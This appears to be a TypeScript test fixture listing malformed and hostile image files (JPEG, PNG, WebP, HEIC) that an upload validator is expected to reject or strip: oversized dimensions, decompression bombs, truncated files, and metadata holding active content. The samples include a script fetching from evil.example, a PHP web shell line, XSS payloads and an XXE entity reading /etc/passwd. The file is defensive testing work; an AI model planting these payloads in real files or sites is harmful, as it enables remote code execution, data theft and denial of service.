import { buildJpeg, exifSegment, jpegFrame, jpegSegment } from './build-jpeg.ts';
import { box, boxOf, buildHeic, long } from './build-movie.ts';
import { buildPng, pngChunk, pngHeader, rawPng } from './build-png.ts';
import { riff, riffChunk } from './build-sound.ts';
import { buildWebp, webpCanvas, webpLossless } from './build-webp.ts';
import { type HostileFile, neutralised, rejected } from './hostile-file.ts';
import { packZerosZlib } from './pack-zeros.ts';

const half = (bytes: Buffer): Buffer => bytes.subarray(0, Math.floor(bytes.length / 2));
const without = (bytes: Buffer, last: number): Buffer => bytes.subarray(0, bytes.length - last);
const frames = (count: number): Buffer => pngChunk('acTL', long(count, 0));
const animation = (count: number): Buffer[] => Array.from({ length: count }, () => riffChunk('ANMF', Buffer.alloc(16)));

/** Pictures that would fill the memory of whoever shows them. */
export const pixelFloods: readonly HostileFile[] = [
  rejected('JPEG of 65,500 x 65,500', 'jpg', () => buildJpeg({ width: 65_500, height: 65_500 }), 'too-many-pixels'),
  rejected('JPEG of 20,000 x 5,001', 'jpg', () => buildJpeg({ width: 20_000, height: 5_001 }), 'too-many-pixels'),
  rejected('JPEG without a height', 'jpg', () => buildJpeg({ height: 0 }), 'damaged'),
  rejected('JPEG without a width', 'jpg', () => buildJpeg({ width: 0 }), 'damaged'),
  rejected('JPEG of a thousand scans', 'jpg', () => buildJpeg({ scans: 1000 }), 'too-complex'),
  rejected(
    'JPEG of a hundred thousand comments',
    'jpg',
    () => buildJpeg({ extra: Array.from({ length: 100_000 }, () => jpegSegment(0xfe, 'x')) }),
    'too-complex',
  ),
  rejected('PNG of 65,535 x 65,535', 'png', () => buildPng({ width: 65_535, height: 65_535, pixels: Buffer.alloc(9) }), 'too-many-pixels'),
  rejected('PNG of 2^31-1 x 1', 'png', () => rawPng(pngHeader(0x7f_ff_ff_ff, 1), pngChunk('IDAT'), pngChunk('IEND')), 'too-many-pixels'),
  rejected('PNG of no width', 'png', () => rawPng(pngHeader(0, 9), pngChunk('IDAT'), pngChunk('IEND')), 'damaged'),
  rejected('PNG whose picture unpacks to a gigabyte', 'png', () => buildPng({ pixels: packZerosZlib(1024) }), 'decompression-bomb'),
  rejected('PNG with more picture than its header says', 'png', () => buildPng({ pixels: packZerosZlib(1) }), 'decompression-bomb'),
  rejected(
    'PNG with a packed text of a gigabyte',
    'png',
    () => buildPng({ extra: [pngChunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), packZerosZlib(1024)]))] }),
    'decompression-bomb',
  ),
  rejected(
    'PNG with a packed international text of 64 MB',
    'png',
    () => buildPng({ extra: [pngChunk('iTXt', Buffer.concat([Buffer.from('a\0\x01\0\0\0'), packZerosZlib(64)]))] }),
    'decompression-bomb',
  ),
  rejected(
    'PNG with a colour profile of a gigabyte',
    'png',
    () => buildPng({ extra: [pngChunk('iCCP', Buffer.concat([Buffer.from('a\0\0'), packZerosZlib(1024)]))] }),
    'decompression-bomb',
  ),
  rejected('moving PNG of four billion frames', 'png', () => buildPng({ extra: [frames(0xff_ff_ff_ff)] }), 'too-many-pixels'),
  rejected(
    'moving PNG of a thousand large frames',
    'png',
    () => buildPng({ width: 2000, height: 1000, extra: [frames(1000)] }),
    'too-many-pixels',
  ),
  rejected('WebP canvas of 16 million x 16 million', 'webp', () => buildWebp([webpCanvas(16_777_216, 16_777_216)]), 'too-many-pixels'),
  rejected('WebP of 16,384 x 16,384', 'webp', () => riff('WEBP', [webpLossless(16_384, 16_384)]), 'too-many-pixels'),
  rejected(
    'moving WebP of two thousand frames',
    'webp',
    () => riff('WEBP', [webpCanvas(100, 100, 2), ...animation(2000)]),
    'too-many-pixels',
  ),
  rejected('moving WebP of large frames', 'webp', () => riff('WEBP', [webpCanvas(9000, 9000, 2), ...animation(9)]), 'too-many-pixels'),
  rejected('HEIC of 100,000 x 100,000', 'heic', () => buildHeic({ width: 100_000, height: 100_000 }), 'too-many-pixels'),
  rejected(
    'HEIC with one huge tile among small',
    'heic',
    () => buildHeic({ properties: box('ipco', box('ispe', long(0, 64, 64)), box('ispe', long(0, 4_000_000_000, 4_000_000_000))) }),
    'too-many-pixels',
  ),
  rejected('HEIC of no size', 'heic', () => buildHeic({ properties: box('ipco', box('ispe', long(0, 0, 0))) }), 'damaged'),
  rejected(
    'HEIC with a hundred thousand properties',
    'heic',
    () => buildHeic({ properties: box('ipco', ...Array.from({ length: 100_001 }, () => box('ispe', long(0, 8, 8)))) }),
    'too-complex',
  ),
];

/** Pictures that break off or contradict themselves. */
export const brokenPictures: readonly HostileFile[] = [
  rejected('JPEG cut in half', 'jpg', () => half(buildJpeg({ width: 800, height: 800 })), 'truncated'),
  rejected('JPEG without its end', 'jpg', () => without(buildJpeg(), 2), 'truncated'),
  rejected('JPEG of three bytes', 'jpg', () => Buffer.of(0xff, 0xd8, 0xff), 'truncated'),
  rejected('JPEG that ends at once', 'jpg', () => Buffer.of(0xff, 0xd8, 0xff, 0xd9), 'damaged'),
  rejected('JPEG without a frame', 'jpg', () => buildJpeg({ frame: Buffer.alloc(0) }), 'damaged'),
  rejected('JPEG with two frames', 'jpg', () => buildJpeg({ extra: [jpegFrame(8, 8)] }), 'damaged'),
  rejected('JPEG with a segment of no length', 'jpg', () => buildJpeg({ extra: [Buffer.of(0xff, 0xe1, 0, 0)] }), 'damaged'),
  rejected(
    'JPEG with a segment beyond its end',
    'jpg',
    () => buildJpeg({ extra: [Buffer.of(0xff, 0xe1, 0xff, 0xff)] }),
    'truncated',
    'damaged',
  ),
  rejected(
    'JPEG with garbage between segments',
    'jpg',
    () => buildJpeg({ extra: [jpegSegment(0xfe, 'x'), Buffer.from('garbage')] }),
    'damaged',
  ),
  rejected(
    'JPEG start and nothing but fill bytes',
    'jpg',
    () => Buffer.concat([Buffer.of(0xff, 0xd8), Buffer.alloc(200_000, 0xff)]),
    'too-complex',
  ),
  rejected('PNG cut in half', 'png', () => half(buildPng()), 'truncated'),
  rejected('PNG without its end', 'png', () => without(buildPng(), 12), 'truncated'),
  rejected('PNG of its signature alone', 'png', () => rawPng(), 'truncated'),
  rejected('PNG with a wrong check sum', 'png', () => buildPng({ extra: [pngChunk('tEXt', 'a\0b', { crc: 1 })] }), 'damaged'),
  rejected('PNG with a chunk of 2 GB', 'png', () => buildPng({ extra: [pngChunk('tEXt', 'a', { length: 0x7f_ff_ff_ff })] }), 'truncated'),
  rejected('PNG with a chunk of 4 GB', 'png', () => buildPng({ extra: [pngChunk('tEXt', 'a', { length: 0xff_ff_ff_ff })] }), 'damaged'),
  rejected('PNG with two headers', 'png', () => buildPng({ extra: [pngHeader(8, 8)] }), 'damaged'),
  rejected(
    'PNG that does not begin with its header',
    'png',
    () => rawPng(pngChunk('tEXt', 'a\0b'), pngHeader(8, 8), pngChunk('IEND')),
    'damaged',
  ),
  rejected('PNG without a picture', 'png', () => rawPng(pngHeader(8, 8), pngChunk('IEND')), 'damaged'),
  rejected('PNG whose picture cannot be unpacked', 'png', () => buildPng({ pixels: Buffer.from('nothing packed') }), 'damaged'),
  rejected(
    'PNG with less picture than its header says',
    'png',
    () => rawPng(pngHeader(900, 900), pngChunk('IDAT', Buffer.from('789c030000000001', 'hex')), pngChunk('IEND')),
    'truncated',
  ),
  rejected('PNG of an unknown colour', 'png', () => rawPng(pngHeader(8, 8, { colour: 5 }), pngChunk('IDAT'), pngChunk('IEND')), 'damaged'),
  rejected('PNG of an unknown depth', 'png', () => rawPng(pngHeader(8, 8, { depth: 7 }), pngChunk('IDAT'), pngChunk('IEND')), 'damaged'),
  rejected('PNG with a chunk without a name', 'png', () => buildPng({ extra: [pngChunk('\0\0\0\0', 'a')] }), 'damaged'),
  rejected('WebP cut in half', 'webp', () => half(buildWebp([riffChunk('EXIF', Buffer.alloc(80))])), 'truncated'),
  rejected('WebP that lies about its size', 'webp', () => buildWebp([], { size: 0x7f_ff_ff_ff }), 'truncated'),
  rejected('WebP with a chunk beyond its end', 'webp', () => riff('WEBP', [riffChunk('VP8L', 'x', 5000)]), 'damaged'),
  rejected('WebP without a picture', 'webp', () => riff('WEBP', [webpCanvas(10, 10)]), 'damaged'),
  rejected('WebP with a wrong start of its picture', 'webp', () => riff('WEBP', [riffChunk('VP8L', Buffer.alloc(12))]), 'damaged'),
  rejected('WebP with a lossy picture of nonsense', 'webp', () => riff('WEBP', [riffChunk('VP8 ', Buffer.alloc(12))]), 'damaged'),
  rejected('HEIC cut in half', 'heic', () => half(buildHeic()), 'truncated', 'damaged'),
  rejected('HEIC without sizes', 'heic', () => buildHeic({ properties: box('ipco') }), 'damaged'),
  rejected('HEIC with a box of 4 GB', 'heic', () => buildHeic({ after: boxOf('mdat', 0xff_ff_ff_ff) }), 'truncated'),
  rejected('HEIC with a box shorter than its head', 'heic', () => buildHeic({ after: boxOf('free', 4) }), 'damaged'),
];

const script = '<script>fetch("//evil.example")</script>';

/** Words in pictures that pages would run, and what the copies must lose. */
export const wordsInPictures: readonly HostileFile[] = [
  rejected('page in a comment of a JPEG', 'jpg', () => buildJpeg({ extra: [jpegSegment(0xfe, `<html><body>${script}`)] }), 'polyglot'),
  rejected(
    'server script in a comment of a JPEG',
    'jpg',
    () => buildJpeg({ extra: [jpegSegment(0xfe, '<?php system($_GET[0]); ?>')] }),
    'polyglot',
  ),
  rejected(
    'script in the device name of a JPEG',
    'jpg',
    () => buildJpeg({ extra: [exifSegment('"><img src=x onerror=alert(1)>')] }),
    'active-content',
  ),
  rejected(
    'drawing with a script in a JPEG',
    'jpg',
    () => buildJpeg({ extra: [jpegSegment(0xe1, '<svg onload=alert(1)>')] }),
    'active-content',
  ),
  rejected('script address in a JPEG', 'jpg', () => buildJpeg({ extra: [jpegSegment(0xed, 'javascript:alert(1)')] }), 'active-content'),
  rejected('script in a title of a PNG', 'png', () => buildPng({ extra: [pngChunk('tEXt', `Title\0${script}`)] }), 'polyglot'),
  rejected(
    'script in a packed title of a PNG',
    'png',
    () => buildPng({ extra: [pngChunk('zTXt', Buffer.from('Title\0\0x\x9c', 'latin1'))] }),
    'damaged',
  ),
  rejected(
    'entity in the description of a PNG',
    'png',
    () => buildPng({ extra: [pngChunk('iTXt', 'XML:com.adobe.xmp\0\0\0\0\0<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')] }),
    'polyglot',
    'active-content',
  ),
  rejected('frame in the description of a WebP', 'webp', () => buildWebp([riffChunk('XMP ', '<iframe src=//evil.example>')]), 'polyglot'),
  rejected('page in a box of a HEIC', 'heic', () => buildHeic({ extra: [box('free', `<!doctype html>${script}`)] }), 'polyglot'),
  neutralised('place and device in a JPEG', 'jpg', () => buildJpeg({ extra: [exifSegment('Camera of Someone')] }), 'Camera of Someone'),
  neutralised('remark in a JPEG', 'jpg', () => buildJpeg({ extra: [jpegSegment(0xfe, 'lives at 1 Example Road')] }), 'Example Road'),
  neutralised('hidden rest behind a JPEG', 'jpg', () => buildJpeg({ after: Buffer.from('the part that was cut away') }), 'cut away'),
  neutralised('remark in a PNG', 'png', () => buildPng({ extra: [pngChunk('tEXt', 'Author\0Someone by name')] }), 'by name'),
  neutralised('hidden rest behind a PNG', 'png', () => buildPng({ after: Buffer.from('the part that was cut away') }), 'cut away'),
  neutralised('remark in a WebP', 'webp', () => buildWebp([webpCanvas(1, 1, 4), riffChunk('XMP ', 'Someone by name!')]), 'by name'),
];
